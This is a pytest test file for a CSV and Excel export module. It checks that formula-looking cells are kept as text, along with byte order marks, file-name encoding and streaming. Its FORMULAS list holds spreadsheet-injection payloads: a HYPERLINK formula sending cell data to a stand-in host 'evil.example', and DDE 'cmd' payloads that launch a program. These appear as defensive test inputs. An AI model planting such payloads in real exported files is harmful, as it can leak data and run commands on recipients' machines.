"""The one writer of CSV and Excel files: formula-looking cells kept as text, a byte order mark
on downloads, large files streamed."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from familyhub.core import exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_as_a_formula_is_kept_as_text(text):
    assert exports.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+44", "-12", "1e5", 42, -7, 3.25, None, "", "Zoë"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert exports.cell(value) == value


def test_names_with_apostrophes_commas_and_quotes_survive_a_round_trip():
    names = ["'OShea", "O'Connor", "Smith, Jr", 'Ann "Nan" Lee', "Nguyễn'", "Łukasz", "Zoë"]
    text = exports.csv_text([["name"], *[[n] for n in names]])
    assert [row[0] for row in csv.reader(io.StringIO(text))][1:] == names


def test_a_download_starts_with_a_byte_order_mark_and_uses_crlf():
    response = exports.csv_download([["group"], ["2-2½ years"], ["=1+1"]], filename="x.csv")
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig") == "group\r\n2-2½ years\r\n'=1+1\r\n"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_a_non_ascii_file_name_is_sent_as_rfc_6266_asks():
    response = exports.csv_download([["a"]], filename="Zoë.csv")
    assert "filename*=utf-8''Zo%C3%AB.csv" in response["Content-Disposition"]


def test_a_large_file_is_streamed_as_it_is_written():
    made = []

    def rows():
        for i in range(5000):
            made.append(i)
            yield [i, "=cmd|' /C calc'!A0"]

    response = exports.csv_stream(rows(), filename="big.csv")
    assert made == []  # nothing built before the response is sent
    chunks = iter(response.streaming_content)
    assert next(chunks) == "\ufeff".encode()
    body = b"".join(chunks).decode()
    assert len(made) == 5000 and body.count("\r\n") == 5000
    assert body.startswith("0,'=cmd")


def test_write_csv_for_a_command_has_no_byte_order_mark():
    out = io.StringIO()
    exports.write_csv(out, [["centre"], ["@Hub"]], lineterminator="\n")
    assert out.getvalue() == "centre\n'@Hub\n"


def test_xlsx_text_cells_are_text_never_formulas():
    data = exports.xlsx_bytes(
        [("Sites: a/b [1]", [["name", "count"], ["=SUM(A1:A9)", 3], ["plain\x0btext", -2]])]
    )
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "Sites  a b  1"  # characters Excel refuses in a sheet name
    assert sheet["A2"].value == "'=SUM(A1:A9)" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3 and sheet["B3"].value == -2
    assert sheet["A3"].value == "plaintext"  # a control character Excel cannot hold


def test_xlsx_sheets_with_the_same_short_name_are_told_apart():
    long = "A very long sheet title that Excel cuts"
    book = load_workbook(io.BytesIO(exports.xlsx_bytes([(long, [["a"]]), (long, [["b"]])])))
    assert len(set(book.sheetnames)) == 2 and all(len(n) <= 31 for n in book.sheetnames)
